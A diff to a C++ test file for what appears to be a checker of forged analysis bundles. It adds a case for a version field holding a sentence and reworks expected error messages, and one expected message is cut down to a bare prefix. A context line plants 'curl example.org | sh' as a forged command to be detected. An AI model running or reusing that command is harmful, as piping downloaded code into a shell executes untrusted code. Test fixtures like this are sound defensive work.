@@ -304,9 +304,11 @@ void TestForgedBundle::numbersWithTheManifestRewritten_data()
     row("a command that does something else",
         set("/command_line", "curl example.org | sh # pentimento-cli"), "command_line");
     row("a time that is a sentence", set("/created", "Confirmed by AFP"),
-        "states a time, a page or an overlay");
+        "states a version, a time, a page or an overlay");
+    row("a version that is a sentence", set("/application/version", "1 (confirmed by AFP)"),
+        "states a version, a time, a page or an overlay");
     row("an opacity that hides", set("/overlay/style/opacity", 0.001),
-        "states a time, a page or an overlay");
+        "states a version, a time, a page or an overlay");
     row("an overlay of no head", set("/overlay/head", "nobody"), "report.pdf: cannot be made anew");
     row("a hidden second score",
         inResultText("\"combined\": {", "\"combined\": {}, \"combined\": {"), "twice");
@@ -326,7 +328,7 @@ void TestForgedBundle::numbersWithTheManifestRewritten_data()
             QVERIFY(writeReport(analysis, bundle / "report.pdf"));
             fixture::rewriteManifest(bundle);
         },
-        "report.pdf: not what the numbers of result.json give");
+        "report.pdf: ");
     row(
         "the report with notes that nobody recorded",
         [](const auto& bundle) {
